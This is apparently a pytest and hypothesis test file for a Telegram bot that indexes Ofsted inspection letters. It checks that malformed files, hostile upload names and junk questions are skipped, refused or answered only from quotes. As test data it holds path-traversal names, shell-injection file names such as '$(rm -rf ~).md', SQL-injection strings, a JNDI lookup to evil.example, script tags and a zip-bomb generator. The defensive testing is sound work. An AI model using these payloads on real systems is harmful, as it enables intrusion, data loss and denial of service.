"""Bad input, in process: questions, files and file names that anyone (or a careless admin) could send.

Each bad input must get a clear answer (an abstention, a skip reason, a refusal) and change nothing
else. Matrices name the inputs; hypothesis covers what nobody thought to list. The same inputs go
through the real bot in tests/test_hardening_bot.py.
"""

from __future__ import annotations

import datetime as dt
import io
import re
import shutil
import zipfile
from calendar import monthrange
from pathlib import Path

import docx
import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

from bot import render, uploads
from index import Answer, Citation
from index.build.update import IndexReport, Skipped, update_index
from index.errors import UnreadableDocument
from index.ingest.read import MAX_UNPACKED_BYTES, read_document
from index.store import DocumentInfo, live_generation
from index.text.dates import date_from_filename, find_dates, find_publication_date
from tests.fake_telegram import MAX_TEXT, parse_html, utf16_len
from tests.pdfgen import make_pdf

D = dt.date
TODAY = D(2026, 5, 1)

# ---------------------------------------------------------------- files that can be made here

LETTER = (
    "# Ofsted focused visit to Avonshire\n\ndate 2023-03-01\n\n1.1 Ofsted carried out a focused visit to "
    "Avonshire children's services, looking at care leavers.\n\n1.2 Inspectors found that leaders in "
    "Avonshire have a clear plan for care leavers.\n"
)


def pdf_letter() -> bytes:
    """A real PDF with a text layer: different lines on each page (repeated lines are running headers)."""
    return make_pdf(
        [
            [
                "Ofsted letter to Avonshire",
                "Published 3 March 2023",
                "The focused visit looked at care leavers and found steady progress.",
            ],
            ["Inspectors met social workers and read the records of twelve children."],
        ]
    )


def docx_letter() -> bytes:
    document = docx.Document()
    document.add_heading("Focused visit to Bexshire", 1)
    document.add_paragraph("Published: 14 April 2023")
    document.add_paragraph(
        "Inspectors looked at the front door and found decisions were timely and well recorded."
    )
    buffer = io.BytesIO()
    document.save(buffer)
    return buffer.getvalue()


def rezip(data: bytes, replace: dict[str, bytes | None]) -> bytes:
    """A copy of a zip (a DOCX) with some members replaced, or dropped when None."""
    out = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(data)) as source,
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target,
    ):
        for info in source.infolist():
            body = replace.get(info.filename, source.read(info.filename))
            if body is not None:
                target.writestr(info.filename, body)
    return out.getvalue()


def zip_bomb_docx() -> bytes:
    """A DOCX carrying a member that unpacks past the limit (zeros compress about 1000:1)."""
    out = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(docx_letter())) as source,
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as target,
    ):
        for info in source.infolist():
            target.writestr(info.filename, source.read(info.filename))
        with target.open("word/media/padding.bin", "w", force_zip64=True) as bomb:
            chunk = bytes(1 << 20)
            for _ in range(MAX_UNPACKED_BYTES // len(chunk) + 8):
                bomb.write(chunk)
    return out.getvalue()


def encrypted_pdf() -> bytes:
    """A PDF under the standard security handler with a user password nobody gave us.

    Written as an incremental update, as a PDF tool would: the encryption dictionary is a new
    object, and a second xref section and trailer (pointing back at the first) name it.
    """
    pdf = pdf_letter()
    first_xref = int(pdf.rsplit(b"startxref\n", 1)[1].split()[0])
    size = int(re.search(rb"/Size (\d+)", pdf)[1])
    encrypt = (
        f"{size} 0 obj\n<< /Filter /Standard /V 1 /R 2 /O <{'11' * 32}> /U <{'22' * 32}> /P -44 >>\n"
        "endobj\n"
    ).encode()
    xref = len(pdf) + len(encrypt)
    trailer = (
        f"xref\n{size} 1\n{len(pdf):010d} 00000 n \ntrailer\n<< /Size {size + 1} /Root 1 0 R "
        f"/Prev {first_xref} /Encrypt {size} 0 R /ID [<{'ab' * 16}><{'ab' * 16}>] >>\nstartxref\n{xref}\n"
        "%%EOF\n"
    )
    return pdf + encrypt + trailer.encode()


BAD_FILES = {  # name → (bytes, words the skip reason must contain)
    "html saved as.pdf": (
        b"<html><body><p>Not a PDF at all, an HTML page.</p></body></html>",
        "HTML page, not a PDF",
    ),
    "archive saved as.pdf": (rezip(docx_letter(), {"word/document.xml": None}), "ZIP archive"),
    "truncated.pdf": (pdf_letter()[:300], "corrupt PDF"),
    "encrypted.pdf": (encrypted_pdf(), "encrypted PDF"),
    "scanned.pdf": (make_pdf([[]]), "no text layer"),
    "bomb.docx": (zip_bomb_docx(), "zip bomb"),
    "broken xml.docx": (
        rezip(docx_letter(), {"word/document.xml": b"<w:document><unclosed"}),
        "corrupt Word document",
    ),
    "broken parts.docx": (
        rezip(docx_letter(), {"[Content_Types].xml": b"<<<"}),
        "corrupt Word document",
    ),
    "empty.md": (b"", "empty file"),
    "blank.txt": (b" \n\t\n", "empty file"),
    "latin1.txt": (
        ("Café inspection résumé, très bien, déjà vu, naïve façade. " * 3).encode("latin-1"),
        "UTF-8",
    ),
    "binary.txt": (bytes(range(256)) * 4, "binary data"),
    "tiny.md": (b"ok ok\n", "no readable text"),
}


@pytest.fixture(scope="module")
def bad_files(tmp_path_factory) -> Path:
    folder = tmp_path_factory.mktemp("bad-files") / "documents"
    folder.mkdir()
    (folder / "good.md").write_text(LETTER)
    for name, (data, _) in BAD_FILES.items():
        (folder / name).write_bytes(data)
    return folder


def test_each_bad_file_is_skipped_with_its_reason_and_the_good_one_is_indexed(
    bad_files, tmp_path, encoder
):
    report = update_index(tmp_path / "index", [bad_files], encoder)
    assert report.added == ["good.md"]
    reasons = {s.source: s.reason for s in report.skipped}
    for name, (_, expected) in BAD_FILES.items():
        assert expected in reasons.get(name, ""), (name, reasons.get(name))
    assert report.indexed_any


def test_a_bad_file_added_later_leaves_the_index_as_it_was(bad_files, tmp_path, encoder):
    folder = tmp_path / "documents"
    folder.mkdir()
    (folder / "good.md").write_text(LETTER)
    update_index(tmp_path / "index", [folder], encoder)
    live = live_generation(tmp_path / "index")
    for name, (
        data,
        _,
    ) in BAD_FILES.items():  # written afresh: a file that broke a limit was set aside
        (folder / name).write_bytes(data)
    report = update_index(tmp_path / "index", [folder], encoder)
    assert report.unchanged == ["good.md"] and not report.changed
    assert live_generation(tmp_path / "index") == live  # no new generation for nothing
    assert sorted(s.source for s in report.skipped) == sorted(BAD_FILES)


def test_duplicate_content_under_another_name_is_skipped_naming_the_original(tmp_path, encoder):
    folder = tmp_path / "documents"
    folder.mkdir()
    (folder / "letter.md").write_text(LETTER)
    update_index(tmp_path / "index", [folder], encoder)
    (folder / "Copy of letter (final) ✓.md").write_text(LETTER)
    report = update_index(tmp_path / "index", [folder], encoder)
    assert [(s.source, s.reason) for s in report.skipped] == [
        ("Copy of letter (final) ✓.md", "same content as letter.md, already indexed")
    ]


_SEEDS = {
    ".docx": docx_letter(),
    ".pdf": pdf_letter(),
    ".md": LETTER.encode(),
    ".html": b"<html><head><title>Letter</title><meta name='date' content='2023-03-01'></head><body><h1>"
    b"Focused visit</h1><p>Inspectors looked at care leavers in Avonshire this spring.</p>"
    b"<table><tr><td>Grade</td><td>Good</td></tr></table></body></html>",
}
_edit = st.tuples(
    st.sampled_from(["set", "cut", "insert"]), st.floats(0, 1), st.binary(min_size=1, max_size=24)
)


def _mutate(data: bytes, edits: list[tuple[str, float, bytes]]) -> bytes:
    out = bytearray(data)
    for kind, where, blob in edits:
        at = int(where * len(out))
        if kind == "set":
            out[at : at + len(blob)] = blob
        elif kind == "cut":
            del out[at : at + 8 * len(blob)]
        else:
            out[at:at] = blob
    return bytes(out)


@settings(
    max_examples=150, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(st.sampled_from(sorted(_SEEDS)), st.lists(_edit, min_size=1, max_size=6))
@example(".docx", [("set", 0.5, b"\xff" * 20)])  # damage inside the deflated XML
def test_reading_damaged_bytes_either_works_or_says_why(tmp_path, suffix, edits):
    path = tmp_path / f"damaged{suffix}"
    path.write_bytes(_mutate(_SEEDS[suffix], edits))
    try:
        document = read_document(path)
    except UnreadableDocument as unreadable:
        assert unreadable.reason and "\n" not in unreadable.reason  # one line, for the skip list
    else:
        assert document.text.strip()


# ---------------------------------------------------------------- file names from Telegram

HOSTILE_NAMES = [
    "../../etc/passwd.pdf",
    "/etc/passwd.md",
    "..\\..\\windows\\system.ini.txt",
    "..",
    ".",
    "",
    ".hidden.md",
    "...md",
    'Ofsted "final" letter.md',
    "it's the 'letter'.md",
    "two\nlines.md",
    "tab\there.md",
    "nul\x00byte.md",
    "bell\x07.md",
    "rtl\u202egnp.md",
    "zero\u200bwidth.md",
    "a" * 300 + ".md",
    "é" * 200 + ".pdf",
    "😀" * 90 + ".docx",
    "CON.txt",
    "name.MD",
    "  spaced  .txt  ",
    "semi;colon|pipe&amp.html",
    "$(rm -rf ~).md",
    "`whoami`.txt",
    "<script>.md",
    "%2e%2e%2fescape.md",
    "file.pdf.exe",
    "no extension",
]


def _check_safe(name: str, folder: Path, saved: Path) -> None:
    assert saved.parent == folder  # directly inside, nowhere else
    assert saved.resolve().parent == folder.resolve()
    assert "/" not in saved.name and "\\" not in saved.name and not saved.name.startswith(".")
    assert all(ch.isprintable() for ch in saved.name), repr(saved.name)
    assert len(saved.stem.encode()) <= uploads.MAX_NAME_BYTES + len(" (999)")


@pytest.mark.parametrize("name", HOSTILE_NAMES)
def test_a_hostile_file_name_becomes_a_safe_name_inside_the_documents_folder(tmp_path, name):
    folder = tmp_path / "documents"
    cleaned = uploads.clean_name(name)
    try:
        uploads.check_name(cleaned)
    except uploads.Refused as refused:  # no supported extension: refused, clearly
        assert "I index only" in str(refused)
        return
    saved = uploads.save(folder, cleaned, b"data")
    _check_safe(name, folder, saved.path)
    assert saved.path.read_bytes() == b"data"
    assert sorted(p.name for p in tmp_path.rglob("*") if p.is_file()) == [saved.path.name]


@settings(
    max_examples=200, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(st.text(max_size=400), st.sampled_from([".pdf", ".docx", ".md", ".txt", ".html", ""]))
def test_any_file_name_is_saved_inside_the_folder_and_never_overwrites(tmp_path, name, suffix):
    folder = tmp_path / "documents"
    cleaned = uploads.clean_name(name + suffix)
    if cleaned.lower().endswith(tuple(uploads.SUPPORTED)):
        first = uploads.save(folder, cleaned, b"first")
        second = uploads.save(folder, cleaned, b"second")
        for saved in (first, second):
            _check_safe(name, folder, saved.path)
        assert first.path != second.path and first.path.read_bytes() == b"first"
        assert second.renamed_from == cleaned
        shutil.rmtree(folder)


# ---------------------------------------------------------------- rendering whatever a document or user says

# Telegram refuses lone surrogates (invalid UTF-8); everything else may appear in a document or a question.
_text = st.text(alphabet=st.characters(exclude_categories=("Cs",)), max_size=600)
_visible = _text.filter(lambda s: s.strip())
_dates = st.none() | st.dates(min_value=D(1900, 1, 1), max_value=D(2100, 12, 31))


@st.composite
def answers(draw) -> Answer:
    citations = tuple(
        Citation(n, draw(_text), draw(_text), draw(_dates), draw(_text), draw(_text), n, n)
        for n in range(1, draw(st.integers(0, 3)) + 1)
    )
    return Answer(
        draw(_text),
        draw(_visible),
        draw(st.booleans()),
        0.5,
        draw(_dates),
        tuple(draw(st.lists(_text, max_size=3))),
        citations,
        TODAY,
    )


def assert_telegram_accepts(html: str) -> list[str]:
    """Each part parses as Telegram's HTML (strictly), has text, and fits one message."""
    parts = render.split_html(html)
    assert parts, "nothing to send"
    for part in parts:
        text, _ = parse_html(part, strict=True)
        assert text.strip() and utf16_len(text.strip()) <= MAX_TEXT
    return parts


@settings(max_examples=150, deadline=None)
@given(answers(), st.integers(0, 10_000))
def test_any_answer_renders_to_html_the_fake_accepts(answer, documents):
    assert_telegram_accepts(render.answer_html(answer, documents))
    if answer.citations:
        assert_telegram_accepts(render.sources_html(answer))


def _document(draw_text: str, date: dt.date | None, n: int) -> DocumentInfo:
    return DocumentInfo(n, draw_text, "/x", draw_text, date, "file name", "text", 3, "h")


@settings(max_examples=100, deadline=None)
@given(_text, _visible, _dates, st.lists(st.tuples(_text, _text), max_size=5), st.booleans())
def test_any_name_title_or_reason_renders_to_html_the_fake_accepts(
    text, name, date, skipped, admin
):
    documents = [_document(text, date, 1), _document(name, None, 2)]
    report = IndexReport(
        added=[name], skipped=[Skipped(s, r) for s, r in skipped], documents=2, passages=9
    )
    for html in (
        render.help_html(documents, admin),
        render.documents_html(documents),
        render.report_html(report),
        render.upload_refused(name, text),
        render.upload_rejected(name, text, name),
        render.upload_indexed(name, report, text or None),
        render.upload_received(name, len(text)),
        render.removed_html(documents[1], name),
        render.UNKNOWN_COMMAND.format(command=render.escape(name)),
        render.NOT_FOUND.format(name=render.escape(name)),
    ):
        assert_telegram_accepts(html)


# ---------------------------------------------------------------- questions, through the real engine

BAD_QUESTIONS = [
    "",
    " ",
    "\n\t ",
    "?",
    "x" * 5000,
    ("When is the next Ofsted visit? " * 200)[:4096],
    "When is the next\x00 Ofsted\x07 visit?\x1b[31m",
    "\u202eWhen is the next Ofsted visit?",
    "\u200b\u200c\u200d\ufeff",
    "متى ستكون زيارة أوفستد القادمة؟",
    "מתי הביקור הבא של אופסטד?",
    "🤔🤔🎉",
    "👨‍👩‍👧 When is the next visit? 🏳️‍🌈",
    "<b>hi</b> & <script>alert(1)</script>",
    '<a href="tg://user?id=1">click</a> When is the next visit?',
    "&lt;b&gt; &amp;amp; &#x0; &#1114112;",
    "*bold* _italic_ [link](http://evil.example) `code` ||spoiler|| ~strike~",
    "\\*escaped\\* ```pre```",
    "'; DROP TABLE documents; --",
    '" OR 1=1 --',
    "1; SELECT * FROM passages WHERE '1'='1",
    "Robert'); DELETE FROM feedback;--",
    "${jndi:ldap://evil.example/a}",
    "{{7*7}} %s %n %x",
    "Pryd fydd yr arolygiad Ofsted nesaf?",
    "Kiedy będzie następna inspekcja Ofsted?",
    "下一次Ofsted检查是什么时候？",
    "Когда будет следующая проверка Ofsted?",
    "अगला ऑफ़स्टेड निरीक्षण कब है?",
    "WHEN IS THE NEXT OFSTED VISIT",
    "next next next next next next",
    "When is the next visit to Northamptonshire, Norfolk and BCP?",
    "What grade did Cornwall get?",
    "What grade did Atlantis County Council get in 2099?",
]


def assert_quoted_or_abstained(engine, answer: Answer) -> None:
    """Every sentence of an answer is a document's sentence with its [n]; otherwise it is an abstention."""
    if answer.abstained:
        assert answer.citations == () and answer.answer.strip()
        return
    texts = {
        d.id: " ".join(engine.snapshot.store.document_text(d.id).split())
        for d in engine.documents()
    }
    pieces = re.findall(r"(.+?) \[(\d+)\](?: |$)", answer.answer)
    assert pieces and "".join(f"{s} [{n}] " for s, n in pieces).strip() == answer.answer, (
        answer.answer
    )
    cited = {c.n: c for c in answer.citations}
    for sentence, n in pieces:
        citation = cited[int(n)]
        assert sentence in citation.quote
        assert any(
            sentence.rstrip("…") in texts[citation.doc_id] or sentence in piece
            for piece in citation.quote.split(" … ")
        )
        for piece in citation.quote.split(" … "):
            assert piece.rstrip("…") in texts[citation.doc_id], piece


@pytest.mark.parametrize("question", BAD_QUESTIONS, ids=lambda q: repr(q[:30]))
def test_a_bad_question_gets_a_quoted_answer_or_an_abstention(seed_engine, question):
    live = live_generation(seed_engine.settings.index_dir)
    answer = seed_engine.ask(question, today=TODAY)
    assert_quoted_or_abstained(seed_engine, answer)
    assert_telegram_accepts(render.answer_html(answer, 2))
    assert live_generation(seed_engine.settings.index_dir) == live  # asking never writes


_words = st.sampled_from(
    [
        "When",
        "is",
        "the",
        "next",
        "Ofsted",
        "visit",
        "inspection",
        "grade",
        "last",
        "what",
        "did",
        "February",
        "2021",
        "Northamptonshire",
        "trust",
        "focus",
        "care",
        "leavers",
        "?",
        "monitoring",
        "Norfolk",
        "workforce",
        "found",
        "Summer",
        "2022",
        "judgement",
    ]
)
questions = st.one_of(
    st.text(alphabet=st.characters(exclude_categories=("Cs",)), max_size=300),
    st.lists(st.one_of(_words, st.text(max_size=6)), max_size=12).map(" ".join),
)


@settings(
    max_examples=30,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)
@given(questions)
def test_ask_never_raises_and_never_answers_with_an_unquoted_sentence(seed_engine, question):
    answer = seed_engine.ask(question, today=TODAY)
    assert_quoted_or_abstained(seed_engine, answer)


# ---------------------------------------------------------------- the date parser: what tests/test_dates.py lacks

_day = st.dates(min_value=D(1900, 1, 1), max_value=D(2099, 12, 31))
_filler = st.lists(
    st.sampled_from(
        [
            "the",
            "report",
            "published",
            "letter",
            "visit",
            "children",
            "Ofsted",
            "was",
            "council",
            "(",
            ")",
            ",",
            "—",
            "said",
        ]
    ),
    max_size=5,
).map(" ".join)


def _ordinal(n: int) -> str:
    return f"{n}{'th' if 10 <= n % 100 <= 20 else {1: 'st', 2: 'nd', 3: 'rd'}.get(n % 10, 'th')}"


def _only_span(text: str, reference: dt.date | None = None):
    spans = find_dates(text, reference=reference)
    assert len(spans) == 1, (text, spans)
    return spans[0]


@settings(max_examples=200, deadline=None)
@given(
    _day,
    st.sampled_from(
        [
            "{o} {d:%B}, {d.year}",
            "{d:%A} {o} {d:%B} {d.year}",
            "{o} of {d:%B} {d.year}",
            "{d.day}\u00a0{d:%b} {d.year}",
            "{d.day} {d:%B}\n{d.year}",
        ]
    ),
    _filler,
    _filler,
)
def test_more_day_forms_round_trip(d, form, before, after):
    wording = form.format(d=d, o=_ordinal(d.day))
    span = _only_span(f"{before} {wording} {after}")
    assert (span.earliest, span.latest, span.precision) == (d, d, "day")


@settings(max_examples=200, deadline=None)
@given(_day, _filler, _filler)
def test_a_month_and_year_stand_for_the_whole_month(d, before, after):
    span = _only_span(f"{before} {d:%B} {d.year} {after}")
    last = monthrange(d.year, d.month)[1]
    assert (span.earliest, span.latest, span.precision) == (
        d.replace(day=1),
        d.replace(day=last),
        "month",
    )


@settings(max_examples=200, deadline=None)
@given(
    _day,
    st.integers(1, 27),
    st.sampled_from(
        [
            "{a} – {b} {m} {y}",
            "{a} to {b} {m} {y}",
            "{a}-{b} {m} {y}",
            "between {a} and {b} {m} {y}",
            "{A} – {B} {m} {y}",
        ]
    ),
)
def test_a_day_range_within_a_month_round_trips(d, length, form):
    last = monthrange(d.year, d.month)[1]
    first = min(d.day, last - 1)
    end = min(first + length, last)
    text = form.format(a=first, b=end, A=_ordinal(first), B=_ordinal(end), m=f"{d:%B}", y=d.year)
    span = _only_span(text)
    assert (span.earliest, span.latest) == (d.replace(day=first), d.replace(day=end)), text


SEASONS = {"spring": ((3, 1), (5, 31)), "summer": ((6, 1), (8, 31)), "autumn": ((9, 1), (11, 30))}


@settings(max_examples=100, deadline=None)
@given(
    st.integers(1900, 2098),
    st.sampled_from(["spring", "summer", "autumn", "winter"]),
    st.booleans(),
)
def test_a_season_stands_for_its_three_months(year, season, capital):
    span = _only_span(f"expected in {season.capitalize() if capital else season} {year}")
    if season == "winter":
        expected = (D(year, 12, 1), D(year + 1, 2, monthrange(year + 1, 2)[1]))
    else:
        (m1, d1), (m2, d2) = SEASONS[season]
        expected = (D(year, m1, d1), D(year, m2, d2))
    assert (span.earliest, span.latest) == expected


@settings(max_examples=150, deadline=None)
@given(
    _day,
    _day,
    st.sampled_from(["{d.day} {d:%B} {d.year}", "{d:%Y-%m-%d}", "{d:%d/%m/%Y}", "{d:%B} {d.year}"]),
)
def test_a_date_with_its_year_does_not_depend_on_the_reference(d, reference, form):
    text = "The visit on " + form.format(d=d) + " went well."
    assert find_dates(text, reference=reference) == find_dates(text)


@settings(max_examples=300, deadline=None)
@given(st.text(max_size=200))
def test_dates_found_without_a_reference_lie_between_1900_and_2100(text):
    for span in find_dates(text):
        assert D(1900, 1, 1) <= span.earliest <= span.latest <= D(2100, 12, 31)


@settings(max_examples=150, deadline=None)
@given(
    _day,
    st.sampled_from(
        ["Published: {w}", "Date: {w}", "Decision date: {w}", "Posted: {d:%A} {w}", "{w}"]
    ),
    st.sampled_from(["{d.day} {d:%B} {d.year}", "{o} {d:%B}, {d.year}", "{d:%d/%m/%Y}"]),
)
def test_a_labelled_publication_date_is_found(d, label, form):
    if "%A" in label and "/" in form:
        form = "{o} {d:%B} {d.year}"  # "Monday 01/01/2000" is not a form in use
    wording = label.format(w=form.format(d=d, o=_ordinal(d.day)), d=d)
    text = f"Ofsted letter to the council\n\n{wording}\n\nInspectors visited the council's children's services."
    found = find_publication_date(text)
    assert found is not None and found[0] == d, (text, found)


@settings(max_examples=150, deadline=None)
@given(
    _day,
    st.sampled_from(
        [
            "{d:%Y-%m-%d} {t}.pdf",
            "{t} - {d.day} {d:%B} {d.year}.docx",
            "{t}_{d:%Y%m%d}.txt",
            "{t} {d.day} {d:%b} {d.year}.md",
        ]
    ),
    st.sampled_from(["Cabinet report", "letter", "ofsted_focused_visit", "Report (final)"]),
)
def test_a_file_name_date_round_trips(d, form, title):
    assert date_from_filename(form.format(d=d, t=title)) == d
